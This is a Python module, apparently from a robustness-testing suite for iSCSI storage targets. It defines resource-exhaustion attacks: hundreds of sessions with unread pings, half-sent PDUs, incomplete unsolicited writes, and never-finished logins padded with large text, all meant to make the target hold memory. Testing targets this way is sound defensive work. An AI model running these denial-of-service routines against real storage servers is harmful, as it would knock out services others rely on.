# SPDX-License-Identifier: GPL-2.0-or-later
"""Peers that make the target hold as much as they can."""

import random
import struct

from initiator import DATA_OUT, LOGIN, NO_TAG, bhs

from . import attack, command, ping

MIB = 1 << 20
PING = 256 << 10


def read10(lba, blocks):
    return struct.pack(">BBIBHB", 0x28, 0, lba, 0, blocks, 0)


def write10(lba, blocks):
    return struct.pack(">BBIBHB", 0x2A, 0, lba, 0, blocks, 0)


def pings(victim, sessions):
    payload = ping(sessions[0], PING, 0)
    victim.pour(sessions, lambda c, n: bytes(payload[:16]) + struct.pack(">I", n + 1) + payload[20:] if n < 60 else None)


@attack()
def discovery_pings(victim):
    """Without an account: sessions that are pinged and do not read the answers."""
    pings(victim, [victim.discovery(MaxRecvDataSegmentLength=PING) for _ in range(20)])


@attack()
def pings_unread(victim):
    """The same in normal sessions."""
    pings(victim, [victim.login(MaxRecvDataSegmentLength=PING) for _ in range(20)])


@attack(lines=1000)
def many_names(victim):
    """Names are only claims: each session has another, and does not read what it has asked for."""
    sessions = [victim.login(MaxRecvDataSegmentLength=PING) for _ in range(200)]
    cdb = read10(0, 2048)
    victim.pour(sessions, lambda c, n: command(c, cdb, n, 0xC0, MIB, victim.lun) if n < 128 else None)


@attack(lines=1000)
def half_a_pdu(victim):
    """All but the last byte of the longest PDU there may be, on many connections."""
    sessions = [victim.login() for _ in range(300)]
    whole = ping(sessions[0], PING, 1)[:-1]
    victim.pour(sessions, lambda c, n: whole if n == 0 else None)


@attack()
def half_a_write(victim):
    """Writes whose unsolicited data stops short of the last PDU."""
    sessions = [victim.login(InitialR2T="No", FirstBurstLength=262144, MaxBurstLength=MIB) for _ in range(40)]
    data = bytes(8192)

    def make(c, n):
        number, part = divmod(n, 31)
        if number >= 30:
            return None
        if part == 0:
            return command(c, write10(16384 + number * 512, 512), number, 0x20, 262144, victim.lun, data)
        rest = struct.pack(">IIIIII", NO_TAG, 0, c.stat_sn + 1, 0, part - 1, part * 8192)
        return bhs(DATA_OUT, 0, 8192, victim.lun, 0x1000 + number, rest=rest) + data

    victim.pour(sessions, make)


@attack(lines=1500)
def before_the_login(victim):
    """Much text, never a whole login."""
    connections = []
    for _ in range(600):
        c = victim.connect()
        text = b"X-%d=" % random.getrandbits(30) + b"a" * 8000 + b"\0"
        head = struct.pack(">BBBBB", LOGIN | 0x40, 0x44, 0, 0, 0) + len(text).to_bytes(3, "big")
        head += c.isid + struct.pack(">HIHHII", 0, 0, 0, 0, 1, 0)
        c.whole = head.ljust(48, b"\0") + text + bytes(-len(text) % 4)
        connections.append(c)
    victim.pour(connections, lambda c, n: c.whole if n < 7 else None)


@attack()
def early_commands(victim):
    """Commands with data that wait for one that never comes."""
    sessions = [victim.login(InitialR2T="No", FirstBurstLength=262144) for _ in range(40)]
    data = bytes(65536)
    victim.pour(sessions, lambda c, n: command(c, write10(16384, 128), n + 1, 0xA0, 65536, victim.lun, data) if n < 100 else None)
